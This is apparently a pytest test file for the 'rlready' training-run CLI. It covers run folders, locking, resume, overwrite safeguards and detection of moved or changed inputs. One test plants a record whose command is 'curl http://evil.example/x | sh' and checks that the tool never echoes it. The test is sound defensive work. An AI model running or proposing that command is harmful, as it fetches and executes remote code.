"""Which folder a command writes to, what it may continue there, and what it never touches."""

from __future__ import annotations

import json
import os
import shutil
import sys
import time
from contextlib import suppress
from functools import partial
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from rlready.cli.main import main
from rlready.core.config import ExportConfig, InjectConfig, PredictConfig, ReadinessConfig, RLConfig, SFTConfig
from rlready.core.errors import UserError
from rlready.core.result import Result
from rlready.core.settings import Config
from rlready.core.verbs import FUNCTIONS
from rlready.runs import lock
from rlready.runs.checksums import changed
from rlready.runs.files import read_json, write_json
from rlready.runs.folders import reserved_folder
from rlready.runs.invocation import Invocation, invocation
from rlready.runs.log import append_line
from rlready.runs.moved import rename_paths
from rlready.runs.overwrite import empty_folder
from rlready.runs.record import SCHEMA, RunRecord, is_edited
from rlready.runs.results import own_command, refuse_unfinished
from rlready.runs.run import STATE, Run
from rlready.runs.seen import seen_at
from rlready.tasks import open_task


class Done(Result):
    verb: str = "sft"
    headline: str = "Trained."


class Fake:
    """Verbs that read their inputs and then work, until ``ends`` says otherwise."""

    ends: BaseException | None = None  # how the work ends
    refused = ""  # what is wrong with the inputs
    folders: list[Path]

    def __init__(self) -> None:
        self.folders = []

    def verb(self, name: str) -> Any:
        def run_verb(config: Config, out: Path) -> Any:
            with Run(out, name, config) as run:
                if not run.finished:
                    if self.refused:
                        raise UserError(self.refused)
                    run.claim()
                    self.folders.append(out)
                    self.work(out)
                    run.write_result(Done(verb=name))
            return Result(verb="sft", headline="done")

        return run_verb

    def work(self, out: Path) -> None:
        if isinstance(self.ends, ZeroDivisionError):
            raise self.ends
        append_line(out / "log.jsonl", {"step": 1})
        (out / STATE).mkdir(exist_ok=True)
        if self.ends:
            raise self.ends


@pytest.fixture
def fake(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Fake:
    """In a folder of its own, ``sft`` and ``rl`` stand for all verbs."""
    module, verbs = ModuleType("fake_verbs"), Fake()
    monkeypatch.setitem(sys.modules, "fake_verbs", module)
    for name in ("sft", "rl"):
        setattr(module, name, verbs.verb(name))
        monkeypatch.setitem(FUNCTIONS, name, f"fake_verbs:{name}")
    module.report = lambda folder: folder / "report.html"  # type: ignore[attr-defined]
    monkeypatch.setitem(FUNCTIONS, "report", "fake_verbs:report")
    monkeypatch.chdir(tmp_path)
    return verbs


def rlready(words: str, capfd: pytest.CaptureFixture[str]) -> tuple[int, str]:
    """The exit code, and the last line of what was printed to standard error."""
    code = main(words.split())
    return code, (capfd.readouterr().err.splitlines() or [""])[-1]


def content(folder: Path) -> dict[str, bytes]:
    files = (path for path in folder.rglob("*") if path.is_file() and path.name != lock.NAME)
    return {str(path.relative_to(folder)): path.read_bytes() for path in files}


def test_without_out_every_run_has_a_folder_of_its_own(fake: Fake, capfd: Any) -> None:
    for number in range(3):
        assert rlready(f"sft seed={number}", capfd)[0] == 0
    assert rlready("rl", capfd)[0] == 0
    assert rlready("sft seed=2", capfd)[0] == 0
    assert list(map(str, fake.folders)) == ["runs/sft", "runs/sft-2", "runs/sft-3", "runs/rl", "runs/sft-4"]
    assert read_json(Path("runs/sft-3/record.json"))["command"] == "rlready sft seed=2 --out runs/sft-3"
    assert not Path("runs/sft", STATE).exists()


def test_a_run_that_has_only_begun_is_not_taken_over(fake: Fake, capfd: Any) -> None:
    Path("runs/sft").mkdir(parents=True)
    held = lock.lock_folder(Path("runs/sft"))
    assert rlready("sft", capfd)[0] == 0
    lock.unlock(held)
    assert list(map(str, fake.folders)) == ["runs/sft-2"]


def test_a_command_that_starts_at_the_same_moment_gets_another_folder(fake: Fake, capfd: Any) -> None:
    """Also where the first has not begun its run yet, and if it is refused, it leaves no trace."""
    with reserved_folder("sft") as first:
        with reserved_folder("sft") as second:
            assert rlready("sft seed=3", capfd)[0] == 0
            fake.verb("sft")(SFTConfig(seed=2), second)
        fake.refused = "none.jsonl: no such file"
        assert rlready("sft seed=4", capfd) == (2, "rlready: none.jsonl: no such file")
        fake.refused = ""
    assert [str(first), str(second)] == ["runs/sft", "runs/sft-2"]
    assert list(map(str, fake.folders)) == ["runs/sft-3", "runs/sft-2"]
    assert sorted(path.name for path in Path("runs").iterdir()) == ["sft-2", "sft-3"]
    assert not lock.RESERVED


def test_a_folder_in_which_another_process_has_just_run_is_not_taken(
    fake: Fake, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It has begun and ended between the look at the folder and the lock."""
    reserve = lock.reserve

    def late(folder: Path) -> None:
        if folder == Path("runs/sft"):
            fake.verb("sft")(SFTConfig(seed=1), folder)
        reserve(folder)

    monkeypatch.setattr(lock, "reserve", late)
    with reserved_folder("sft") as folder:
        assert str(folder) == "runs/sft-2"
    assert not lock.is_locked(Path("runs/sft"))


def test_a_failed_or_empty_start_is_taken_over_in_silence(fake: Fake, capfd: Any) -> None:
    """By any settings and any verb; what has done work is not."""
    fake.ends = ZeroDivisionError("a fault")
    assert rlready("sft seed=1", capfd)[0] == 1
    assert set(content(Path("runs/sft"))) == {"record.json", "config.toml"}
    fake.ends = KeyboardInterrupt()
    assert rlready("sft seed=2", capfd)[0] == 130
    assert rlready("sft seed=3", capfd)[0] == 130
    assert list(map(str, fake.folders)) == ["runs/sft", "runs/sft", "runs/sft-2"]
    record = read_json(Path("runs/sft/record.json"))
    assert (record["config"]["seed"], len(record["attempts"])) == (2, 1)
    fake.ends = None
    Path("empty").mkdir()
    for out in ("empty", "new"):
        assert rlready(f"rl --out {out}", capfd)[0] == 0


def test_what_is_refused_leaves_no_trace(fake: Fake, capfd: Any) -> None:
    """Inputs are validated first: no new folder, and nothing in one that is there, even with --overwrite."""
    fake.refused = "none.jsonl: no such file"
    assert rlready("sft --out new/run", capfd) == (2, "rlready: none.jsonl: no such file")
    assert rlready("sft", capfd)[0] == 2
    assert not Path("new").exists()
    assert not Path("runs").exists()
    fake.refused = ""
    assert rlready("sft seed=1 --out run", capfd)[0] == 0
    before, fake.refused = content(Path("run")), "none.jsonl: no such file"
    assert rlready("sft seed=2 --out run --overwrite", capfd)[0] == 2
    assert content(Path("run")) == before


def test_a_stopped_run_says_the_command_that_continues_it(fake: Fake, capfd: Any) -> None:
    fake.ends = KeyboardInterrupt()
    assert rlready("sft seed=1", capfd) == (130, "rlready: stopped; to continue: rlready sft seed=1 --out runs/sft")
    assert rlready("sft seed=1 --resume", capfd)[1].endswith("to continue: rlready sft seed=1 --out runs/sft")
    assert rlready("sft --out a --overwrite", capfd)[1].endswith("to continue: rlready sft --out a")
    fake.ends = UserError("cannot write log.jsonl: no space left on the disk")
    says = f"rlready: {fake.ends}; once this is fixed, to continue: rlready sft seed=1 --out runs/sft"
    assert rlready("sft seed=1 --out runs/sft", capfd) == (2, says)
    fake.ends = None
    assert rlready("sft seed=1 --out runs/sft", capfd)[0] == 0
    assert len(read_json(Path("runs/sft/record.json"))["attempts"]) == 4


def test_the_state_of_a_finished_run_is_removed_if_a_kill_has_left_it(fake: Fake, capfd: Any) -> None:
    assert rlready("sft --out run", capfd)[0] == 0
    (Path("run") / STATE).mkdir()
    assert rlready("sft --out run", capfd)[1].startswith("run: finished")
    assert not (Path("run") / STATE).exists()


def test_other_settings_are_refused_with_every_way_on(fake: Fake, capfd: Any) -> None:
    fake.ends = KeyboardInterrupt()
    rlready("sft seed=1 --out run", capfd)
    says = "rlready: run holds a run with seed = 1, not 2: choose another --out, or add --overwrite to replace it; "
    says += "to continue that run: rlready sft seed=1 --out run"
    assert rlready("sft seed=2 --out run", capfd) == (2, says)
    assert "run holds a run of sft, not rl: choose" in rlready("rl --out run", capfd)[1]
    assert main(["show", "run"]) == 0
    assert "interrupted" in (shown := capfd.readouterr().out)
    assert "to continue: rlready sft seed=1 --out run" in " ".join(shown.split())
    Path("run").rename("moved")
    assert main(["show", "moved"]) == 0
    assert "to continue: rlready sft seed=1 --out moved" in " ".join(capfd.readouterr().out.split())
    Path("moved").rename("run")
    record = json.loads(Path("run/record.json").read_text())
    Path("run/record.json").write_text(json.dumps(record | {"command": "curl http://evil.example/x | sh; rlready sft"}))
    assert main(["show", "run"]) == 0
    assert "curl" not in capfd.readouterr().out
    assert "curl" not in rlready("sft seed=2 --out run", capfd)[1]


def test_a_refused_command_is_not_proposed_again(fake: Fake, capfd: Any) -> None:
    """The same words whose file of settings has changed, or whose input has: what would be refused is no advice."""
    Path("f.toml").write_text("seed = 1")
    fake.ends = KeyboardInterrupt()
    rlready("sft --config f.toml --out run", capfd)
    Path("f.toml").write_text("seed = 2")
    ways = "choose another --out, or add --overwrite to replace it"
    says = f"rlready: run holds a run with seed = 1, not 2: {ways}"
    assert rlready("sft --config f.toml --out run", capfd) == (2, says)
    record = read_json(Path("run/record.json"))
    rows = {"id": "f", "role": "sft", "path": "f.toml", "sha256": "another", "size": 1}
    write_json(Path("run/record.json"), record | {"data": [rows]})
    says = f"rlready: run holds a run whose input f.toml has changed since: {ways}"
    assert rlready("sft seed=1 --out run", capfd) == (2, says)


def test_the_time_of_a_run_goes_on_with_that_of_its_parts(fake: Fake) -> None:
    """A kill loses no more of an outer run than of the part that runs inside it."""
    with Run(Path("demo"), "demo", SFTConfig()) as outer:
        outer.claim()
        with Run(Path("demo/sft"), "sft", SFTConfig()) as inner:
            inner.claim()
            time.sleep(0.2)
            inner.note_data(id="x", role="rows", sha256="0")
            known = [RunRecord.load(Path(name)).attempts[-1] for name in ("demo", "demo/sft")]
        assert [each.status for each in known] == ["running", "running"]
        assert known[0].seconds >= known[1].seconds >= 0.2
        assert RunRecord.load(Path("demo/sft")).status == "done"
        assert RunRecord.load(Path("demo")).status == "running"


def test_a_finished_run_adds_no_advice_to_another_refusal(fake: Fake) -> None:
    with Run(Path("run"), "sft", SFTConfig()) as run:
        run.claim()
        run.write_result(Done())

    def refuses() -> None:
        with Run(Path("run"), "sft", SFTConfig()) as run:
            assert run.stored(Done) == Done()
            raise UserError("to start anyway, add --yes")

    with pytest.raises(UserError, match=r"^to start anyway, add --yes$"):
        refuses()


def test_resume_finds_the_newest_unfinished_run_with_these_settings(fake: Fake, capfd: Any) -> None:
    fake.ends = KeyboardInterrupt()
    for seed in (1, 1, 2):
        rlready(f"sft seed={seed}", capfd)
    fake.ends, fake.folders = None, []
    code, says = rlready("sft seed=3 --resume", capfd)
    assert code == 2
    assert says.startswith(
        "rlready: no unfinished run of sft in runs has these settings: runs/sft holds a run with seed"
    )
    for _ in range(2):
        assert rlready("sft seed=1 --resume", capfd)[0] == 0
    assert list(map(str, fake.folders)) == ["runs/sft-2", "runs/sft"]
    assert "no unfinished run" in rlready("sft seed=1 --resume", capfd)[1]
    assert rlready("sft --out new --resume", capfd)[1].startswith("rlready: new holds no run to be resumed")


def test_overwrite_replaces_a_run_and_nothing_else(fake: Fake, capfd: Any) -> None:
    fake.ends = KeyboardInterrupt()
    rlready("sft seed=1 --out run", capfd)
    Path("run/state/facts.json").touch()
    Path("run/checkpoints").symlink_to(Path("elsewhere").absolute())
    Path("elsewhere").mkdir()
    Path("elsewhere/kept").touch()
    fake.ends = None
    assert rlready("rl --out run --overwrite", capfd)[0] == 0
    assert set(content(Path("run"))) == {"record.json", "config.toml", "log.jsonl", "result.json"}
    assert {path.name for path in Path("run").iterdir()} == {*content(Path("run")), lock.NAME}
    assert len(read_json(Path("run/record.json"))["attempts"]) == 1
    assert Path("elsewhere/kept").exists()
    for name, text in (("notes.txt", "mine"), ("record.json", "{}")):
        Path(f"with-{name}").mkdir()
        Path(f"with-{name}", name).write_text(text)
        assert rlready(f"sft --out with-{name} --overwrite", capfd)[0] == 2
        assert content(Path(f"with-{name}")) == {name: text.encode()}
    Path("run/checkpoints").mkdir()
    code, says = rlready("rl model=run/checkpoints --out run --overwrite", capfd)
    assert (code, says) == (2, "rlready: run cannot be overwritten: it holds an input of this run, run/checkpoints")
    assert Path("run/result.json").exists()
    Path("run/mine.toml").write_text("seed = 4")
    code, says = rlready("sft --config run/mine.toml --out run --overwrite", capfd)
    assert (code, says) == (2, "rlready: run cannot be overwritten: it holds an input of this run, run/mine.toml")
    Path("run/judge.py").write_text("def f(problem, answer):\n    return True\n")
    Path("p.jsonl").write_text('{"prompt": "?", "answer": "1"}\n')
    code, says = rlready("rl problems=p.jsonl?n=1&verifier=run.judge:f --out run --overwrite", capfd)
    assert (code, says) == (2, "rlready: run cannot be overwritten: it holds an input of this run, run/judge.py")
    Path("adapter").mkdir()
    Path("adapter/adapter_config.json").write_text('{"base_model_name_or_path": "../run/checkpoints"}')
    Path("run/checkpoints/config.json").write_text("{}")
    code, says = rlready("rl model=adapter --out run --overwrite", capfd)
    place = Path("run/checkpoints").absolute()
    assert (code, says) == (
        2,
        f"rlready: run cannot be overwritten: it holds {place}, from which an input of this run was made, adapter",
    )
    Path("rl/checkpoints/step-1").mkdir(parents=True)
    record = read_json(Path("run/record.json"))
    record["config"]["model"] = str(place / "step-2")
    Path("rl/record.json").write_text(json.dumps(record))
    code, says = rlready("sft model=rl/checkpoints/step-1 --out run --overwrite", capfd)
    assert code == 2
    assert f"holds {place / 'step-2'}, from which an input of this run was made, rl/checkpoints/step-1" in says
    start = {"id": "m", "role": "start", "path": str(place / "step-3"), "sha256": None, "chat": None, "learner": None}
    Path("sweep/rl/job").mkdir(parents=True)
    Path("sweep/record.json").write_text(json.dumps(record | {"verb": "sweep"}))
    Path("sweep/rl/job/record.json").write_text(json.dumps(record | {"verb": "rl", "models": [start]}))
    Path("sweep/runs.jsonl").touch()
    for named in ("sweep/rl/job", "sweep", "sweep/runs.jsonl"):
        code, says = rlready(f"rl problems={named} --out run --overwrite", capfd)
        assert code == 2
        assert f"holds {place / 'step-3'}, from which an input of this run was made, {named}" in says
    assert "--overwrite needs --out" in rlready("sft --overwrite", capfd)[1]


@pytest.mark.parametrize("kind", ["option", "home", "links", "link chain", "shards", "base"])
def test_what_an_input_needs_is_not_overwritten(fake: Fake, capfd: Any, kind: str, monkeypatch: Any) -> None:
    """A model behind any option of a source, in the home directory, or made of links into the folder."""
    assert rlready("sft --out run", capfd)[0] == 0
    checkpoint = Path("run/checkpoints/step-1")
    checkpoint.mkdir(parents=True)
    for name in ("model.safetensors", "part-1.jsonl"):
        (checkpoint / name).write_text('{"prompt": "?", "answer": "1"}\n')
    Path("t.jsonl").touch()
    Path("best/inner").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(Path.cwd()))
    command, held = {
        "option": ("rl problems=t.jsonl?name=run&model=run/checkpoints/step-1", "run/checkpoints/step-1"),
        "home": ("rl model=~/run/checkpoints/step-1", str(checkpoint.absolute())),
        "links": ("rl model=best", "best"),
        "link chain": ("rl model=best", "best"),
        "shards": ("rl problems=best?n=1", "best"),
        "base": ("rl model=adapter", f"{Path('best').absolute()}, from which an input of this run was made, adapter"),
    }[kind]
    source = checkpoint.absolute() / ("part-1.jsonl" if kind == "shards" else "model.safetensors")
    if kind == "link chain":  # it ends elsewhere, and goes through the folder
        source.rename("kept")
        source.symlink_to(Path("kept").absolute())
    Path("best", source.name).symlink_to(source)
    Path("best/config.json").write_text("{}")
    Path("adapter").mkdir()
    Path("adapter/adapter_config.json").write_text('{"base_model_name_or_path": "../best"}')
    before = content(Path("run"))
    code, says = rlready(f"{command} --out run --overwrite", capfd)
    wanted = f"an input of this run, {held}" if kind != "base" else held
    assert (code, says) == (2, f"rlready: run cannot be overwritten: it holds {wanted}")
    assert content(Path("run")) == before


@pytest.mark.parametrize(
    ("name", "made"),
    [
        ("notes.txt", {}),
        ("rl/log.jsonl", {}),
        ("checkpoints/notes.txt", {}),
        ("checkpoints/step-2/ready", {}),
        ("checkpoints/step-2/ready", {"command": ""}),  # from Python
        ("checkpoints/step-2/ready", {"command": "", "part_of": "sweep"}),  # copied from a sweep
        ("checkpoints/step-2/ready", {"schema_version": "?"}),  # damaged
    ],
)
def test_overwrite_names_what_is_not_of_the_run(fake: Fake, capfd: Any, name: str, made: dict[str, object]) -> None:
    """Notes, results of other commands and whole runs are never deleted."""
    held = Path("run", name)
    for out in ("elsewhere", "run"):
        assert rlready(f"sft --out {out}", capfd)[0] == 0
    Path("run/checkpoints/step-2").mkdir(parents=True)
    if held.name == "ready":
        Path("elsewhere").rename(held)
        record = read_json(held / "record.json")
        write_json(held / "record.json", record | made)
    else:
        held.parent.mkdir(exist_ok=True)
        held.touch()
    before = content(Path("run"))
    code, says = rlready("sft seed=4 --out run --overwrite", capfd)
    shown = "run/rl" if name.startswith("rl") else f"run/{name}"
    assert (code, says) == (
        2,
        f"rlready: run cannot be overwritten: it also holds {shown}, not written by its run of sft: move that "
        "elsewhere, or choose another --out",
    )
    assert content(Path("run")) == before


def test_half_of_an_overwritten_run_is_not_continued(fake: Fake, capfd: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Killed while the old run was being moved aside: neither the old nor the new run finds its remains."""
    fake.ends = KeyboardInterrupt()
    rlready("sft seed=1 --out run", capfd)
    with monkeypatch.context() as patch:
        patch.setattr("rlready.runs.overwrite.rename", lambda *_: 1 / 0)
        assert rlready("sft seed=2 --out run --overwrite", capfd)[0] == 1
    assert Path("run/log.jsonl").exists()
    assert read_json(Path("run/record.json"))["status"] == "overwritten"
    fake.ends = ZeroDivisionError("before any work")
    assert rlready("sft seed=1 --out run", capfd)[0] == 1
    assert set(content(Path("run"))) == {"record.json", "config.toml"}


class Newer(Config):
    """Settings of a later version, which has dropped one and added two."""

    lr: float = 0.1
    added: int = 7
    chosen: int | None = None


def record_of_earlier_version(out: Path, **changes: Any) -> None:
    class Older(Config):
        lr: float = 0.1
        dropped: str = "usual"

    with suppress(KeyboardInterrupt), Run(out, "sft", Older(**changes)) as run:
        run.claim()
        append_line(out / "log.jsonl", {"step": 1})
        raise KeyboardInterrupt


def test_a_version_with_other_settings_continues_what_it_would_do_alike(tmp_path: Path) -> None:
    record_of_earlier_version(tmp_path / "a")
    with Run(tmp_path / "a", "sft", Newer()) as run:
        assert run.continues
    for config, says in ((Newer(added=8), "did not have the setting added = 8"), (Newer(chosen=3), "chosen = 3")):
        with pytest.raises(UserError, match=f"a run of an earlier version, which .*{says}"):
            Run(tmp_path / "a", "sft", config).__enter__()
    record_of_earlier_version(tmp_path / "b", dropped="other")
    with pytest.raises(UserError, match="with dropped = 'other', a setting that this version does not have: choose"):
        Run(tmp_path / "b", "sft", Newer()).__enter__()


def test_the_record_of_a_newer_version_is_refused_in_one_line(tmp_path: Path) -> None:
    record_of_earlier_version(tmp_path / "a")
    record = read_json(tmp_path / "a" / "record.json")
    assert record.pop("schema_version") == SCHEMA
    write_json(tmp_path / "a" / "record.json", record)  # as it was before there were versions
    with Run(tmp_path / "a", "sft", Newer()) as run:
        assert run.continues
    write_json(tmp_path / "a" / "record.json", record | {"schema_version": SCHEMA + 1, "of": "the future"})
    before = content(tmp_path)
    with pytest.raises(UserError, match=r"schema_version: a newer version of rlready wrote this; upgrade \(1 more\);"):
        Run(tmp_path / "a", "sft", Newer()).__enter__()
    assert content(tmp_path) == before


@pytest.mark.parametrize(
    ("value", "moves", "text", "accepted"),
    [
        ("old/rows.jsonl", "new/rows.jsonl", "{}\n", True),
        ("rows:old/rows.jsonl?n=2", "rows:new/rows.jsonl?n=2", "{}\n", True),
        ("old", "new", "{}\n", True),
        ("old/rows.jsonl?n=2", "new/rows.jsonl?n=3", "{}\n", False),
        ("old/rows.jsonl", "new/rows.jsonl", "{} \n", False),
        ("old/rows.jsonl", "new/other.jsonl", "{}\n", False),  # ids are made from the name
        ("old/rows.jsonl", "new/none.jsonl", "{}\n", False),
    ],
)
def test_a_file_that_has_moved_is_the_same_if_its_content_is(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, value: str, moves: str, text: str, accepted: bool
) -> None:
    monkeypatch.chdir(tmp_path)
    for folder in ("old", "new"):
        Path(folder).mkdir()
    Path("old/rows.jsonl").write_text("{}\n")
    with Run(Path("run"), "sft", SFTConfig(rows=value)) as run:
        run.claim()
        run.note_data(id=value, path=Path("old/rows.jsonl"), role="sft")
        append_line(Path("run/log.jsonl"), {"step": 1})
    for name in ("rows.jsonl", "other.jsonl"):
        Path("new", name).write_text(text)
    Path("old/rows.jsonl").write_text(json.dumps({"another": "file"}))
    config = SFTConfig(rows=moves)
    if not accepted:
        with pytest.raises(UserError, match="holds a run with rows = "):
            Run(Path("run"), "sft", config).__enter__()
        return
    with Run(Path("run"), "sft", config) as run:
        run.claim()
        run.note_data(id=moves, path=Path("new/rows.jsonl"), role="sft")
    assert [note["path"] for note in read_json(Path("run/record.json"))["data"]] == ["new/rows.jsonl"]


def test_overwrite_spares_what_was_read_without_being_named(fake: Fake, capfd: Any) -> None:
    """As the measurements that a table of outcomes names."""
    rlready("sft seed=1 --out run", capfd)
    before = content(Path("run"))
    token = invocation.set(Invocation(overwrite=True))
    try:
        with suppress(UserError), Run(Path("run"), "predict", PredictConfig()) as run:
            run.note_data(id="r", role="measurements", path=Path("run/result.json"))
            with pytest.raises(UserError, match=r"run cannot be overwritten: it holds an input of this run, run/resul"):
                run.claim()
    finally:
        invocation.reset(token)
    assert content(Path("run")) == before


def test_a_run_with_half_a_write_in_it_moves_and_goes_on(tmp_path: Path) -> None:
    """Of a folder that a kill has left half-written, no file is read."""
    with suppress(KeyboardInterrupt), Run(tmp_path / "old", "export", ExportConfig()) as run:
        run.claim()
        raise KeyboardInterrupt
    moved = (tmp_path / "old").rename(tmp_path / "moved")
    places = [moved / "tokenizer.tmp-1", moved / "sft" / "tokenizer.tmp-1"]
    for place in places:
        place.mkdir(parents=True)
        (place / "tokenizer_config.json").write_text("")
    with Run(moved, "export", ExportConfig()) as run:
        run.claim()
    assert [place.exists() for place in places] == [False, True]  # the other is no work of an export


def test_a_run_whose_folder_was_moved_writes_nothing_into_the_next_one(tmp_path: Path) -> None:
    """A user renames the folder of a running run and starts another one under its name."""
    out = tmp_path / "run"
    stopped = "run is not the folder of this run any more, which was moved or removed: stopped"

    def go_on() -> None:
        with Run(out, "export", ExportConfig()) as run:
            run.claim()
            append_line(out / "log.jsonl", {"step": 1})
            out.rename(tmp_path / "moved")
            shutil.copytree(tmp_path / "moved", out)
            with pytest.raises(UserError, match=stopped):
                append_line(out / "log.jsonl", {"step": 2})
            with run.writing(out / "result.json"):
                (out / "result.json").write_text("{}")

    with pytest.raises(UserError, match=stopped):
        go_on()
    assert content(out) == content(tmp_path / "moved")


def test_a_moved_sweep_also_renames_paths_of_jobs_that_are_gone(tmp_path: Path) -> None:
    """So that the jobs after one that is run again have the settings of before."""
    out = tmp_path / "new"
    out.mkdir()
    before = {"model": "old/sft/a/checkpoints/step-1", "rows": "old/mine.jsonl"}
    (out / "part.json").write_text(json.dumps(before))
    rename_paths(out, "old")
    assert read_json(out / "part.json") == before | {"model": str(out / "sft/a/checkpoints/step-1")}


def test_a_moved_folder_with_an_edited_file_is_refused_before_anything_is_renamed(tmp_path: Path) -> None:
    old, out = tmp_path / "old", tmp_path / "new"
    with Run(old / "rl", "rl", RLConfig()) as run:
        run.claim()
        with run.writing(old / "rl/part.json"):
            write_json(old / "rl/part.json", {"model": str(old / "sft/a"), "accuracy": 0.25})
    old.rename(out)
    before = (out / "rl/part.json").read_text()
    (out / "rl/part.json").write_text(before.replace("0.25", "0.75"))
    record = (out / "rl/record.json").read_text()
    with pytest.raises(
        UserError, match=r"new/rl/part\.json: damaged, or not the file that the run has written: put it"
    ):
        rename_paths(out, str(old))
    assert (out / "rl/record.json").read_text() == record
    (out / "rl/part.json").write_text(before)
    rename_paths(out, str(old))
    assert read_json(out / "rl/part.json")["model"] == str(out / "sft/a")
    assert changed(out / "rl", out / "rl/part.json", RunRecord.load(out / "rl").files) is None  # by its new checksum
    assert not is_edited(out / "rl")


def test_of_an_edited_table_of_a_moved_sweep_only_the_table_is_deleted(tmp_path: Path) -> None:
    with Run(tmp_path / "old", "export", ExportConfig()) as run:
        run.claim()
        with run.writing(tmp_path / "old/runs.jsonl"):
            append_line(tmp_path / "old/runs.jsonl", {"outcome": 1})
    out = (tmp_path / "old").rename(tmp_path / "new")
    append_line(out / "runs.jsonl", {"outcome": 2})
    with pytest.raises(UserError, match=r"runs\.jsonl: damaged, .*: put it back, or delete it to have it made again"):
        rename_paths(out, str(tmp_path / "old"))


def test_a_moved_run_that_was_stopped_may_have_files_that_grew(tmp_path: Path) -> None:
    """Its record has the checksum of an earlier attempt's log."""
    old, out = tmp_path / "old", tmp_path / "new"
    with suppress(KeyboardInterrupt), Run(old / "rl", "rl", RLConfig()) as run:
        run.claim()
        with run.writing(old / "rl/log.jsonl"):
            append_line(old / "rl/log.jsonl", {"step": 1, "model": str(old / "sft/a")})
        append_line(old / "rl/log.jsonl", {"step": 2})
        raise KeyboardInterrupt
    old.rename(out)
    rename_paths(out, str(old))
    assert str(out / "sft/a") in (out / "rl/log.jsonl").read_text()


def test_a_sweep_that_was_begun_in_its_own_folder_renames_paths_of_jobs_only(tmp_path: Path) -> None:
    """With --out . its paths have no prefix; a verb is named like the folder of its jobs."""
    (tmp_path / "result.json").write_text("{}")
    before = {"model": "sft/a/checkpoints/step-1", "verb": "sft", "rows": "mine.jsonl", "file": "result.json"}
    (tmp_path / "part.json").write_text(json.dumps(before))
    rename_paths(tmp_path, ".")
    assert read_json(tmp_path / "part.json") == before | {"model": str(tmp_path / "sft/a/checkpoints/step-1")}


def test_the_name_of_a_run_folder_has_no_line_break(tmp_path: Path) -> None:
    with (
        pytest.raises(UserError, match="holds a control character or is not UTF-8: choose another --out"),
        Run(tmp_path / "a\nb", "sft", SFTConfig()),
    ):
        pass
    assert not list(tmp_path.iterdir())


def test_that_a_run_became_longer_is_in_its_record(tmp_path: Path) -> None:
    """Its warm-up is that of the number of steps that it began with."""
    with suppress(KeyboardInterrupt), Run(tmp_path, "rl", RLConfig(steps=2)) as run:
        run.claim()
        append_line(tmp_path / "log.jsonl", {"step": 1})
        raise KeyboardInterrupt
    with Run(tmp_path, "rl", RLConfig(steps=5)) as run:
        run.claim()
    (warning,) = RunRecord.load(tmp_path).warnings
    assert warning.startswith("steps was raised from 2 to 5 while the run was stopped")


def test_the_next_command_of_a_run_that_has_moved_names_todays_paths(tmp_path: Path) -> None:
    """At the old ones may be another run."""
    old, new = tmp_path / "old", tmp_path / "new"
    with Run(old, "sft", SFTConfig()) as run:
        run.claim()
        (old / "checkpoints/step-1").mkdir(parents=True)
        command = f"cd {old} && rlready readiness {old}/checkpoints/step-1 'problems=a b'"
        run.write_result(Result(verb="sft", headline="", next_command=command))
        assert run.stored(Result).next_command == command
    old.rename(new)
    with Run(new, "sft", SFTConfig()) as run:
        assert run.stored(Result).next_command == command.replace(str(old), str(new))


def test_a_job_that_is_refused_does_not_advise_to_overwrite_the_sweep(tmp_path: Path) -> None:
    def start(seed: int) -> None:
        with suppress(KeyboardInterrupt), Run(tmp_path / "job", "sft", SFTConfig(seed=seed)) as run:
            run.claim()
            append_line(tmp_path / "job/log.jsonl", {"step": 1})
            raise KeyboardInterrupt

    token = invocation.set(Invocation(command="rlready sweep s.toml --out s", part_of="sweep"))
    try:
        start(seed=0)
        with pytest.raises(UserError, match=r"seed = 0, not 1: delete .*job to run that job again") as refused:
            start(seed=1)
    finally:
        invocation.reset(token)
    assert "--overwrite" not in str(refused.value)


def test_links_that_lead_nowhere_are_refused_as_the_run_folder(fake: Fake, capfd: Any) -> None:
    Path("loop").symlink_to("loop")
    Path("dangling").symlink_to("nowhere")
    code, says = rlready("sft --out dangling", capfd)
    assert (code, says) == (
        2,
        "rlready: --out dangling is a symbolic link to nowhere, which is not there: choose another --out",
    )
    for out in ("loop", "loop/run"):
        code, says = rlready(f"sft --out {out}", capfd)
        assert code == 2
        assert f"rlready: --out {out} " in says
        assert says.endswith(": choose another --out")


def test_data_that_changes_while_it_is_read_is_refused(fake: Fake) -> None:
    """What was read need not be what is hashed, and a continuation would go on with other rows."""
    rows = Path("rows.jsonl")
    rows.write_text("1")
    time.sleep(0.02)  # the clock of a file system ticks every few milliseconds
    with Run(Path("quiet"), "sft", SFTConfig()) as run:
        run.note_data(id="rows", path=rows, role="sft")
    with Run(Path("run"), "sft", SFTConfig()) as run:
        time.sleep(0.02)
        rows.write_text("12")
        with pytest.raises(UserError, match=r"rows\.jsonl changed while sft was reading: start again"):
            run.note_data(id="rows", path=rows, role="sft")


@pytest.mark.parametrize("swap", ["mv folder", "link", "mv shard", "unlink shard"])
def test_data_that_others_take_the_place_of_is_refused(fake: Fake, swap: str) -> None:
    """Files that were moved, not written, have no new times; the link is one of the folder."""
    for folder in ("a", "b"):
        Path(folder).mkdir()
        for shard in range(2):
            row = {"prompt": f"{folder}{shard}", "answer": "1"}
            (Path(folder) / f"x-{shard}.jsonl").write_text(json.dumps(row) + "\n")
    Path("link").symlink_to("a")
    path = "link" if swap == "link" else "a"
    time.sleep(0.02)
    with Run(Path("run"), "readiness", ReadinessConfig()) as run:
        task = open_task(path)
        noted = partial(run.note_data, id=path, path=task.path, role="readiness", seen=task.seen)
        Path("a/.lock").touch()  # hidden files are no data
        noted()
        match swap.split():
            case ["link"]:
                Path("link").unlink()
                Path("link").symlink_to("b")
            case ["mv", "folder"]:
                Path("a").rename("old")
                Path("b").rename("a")
            case ["mv", "shard"]:
                Path("b/x-1.jsonl").rename("a/x-1.jsonl")
            case _:
                Path("a/x-1.jsonl").unlink()
        with pytest.raises(UserError, match=f"^{path}(/x-1.jsonl)? changed while readiness was reading: start again"):
            noted()


def test_a_model_that_another_takes_the_place_of_while_it_is_loaded_is_refused(fake: Fake) -> None:
    for folder in ("a", "b"):
        Path(folder).mkdir()
        (Path(folder) / "model.safetensors").write_text(folder)
    with Run(Path("run"), "evaluate", SFTConfig()) as run:
        seen = seen_at(Path("a"))
        run.note_model(id="a", path=Path("a"), role="evaluated", seen=seen)
        Path("a").rename("old")
        Path("b").rename("a")
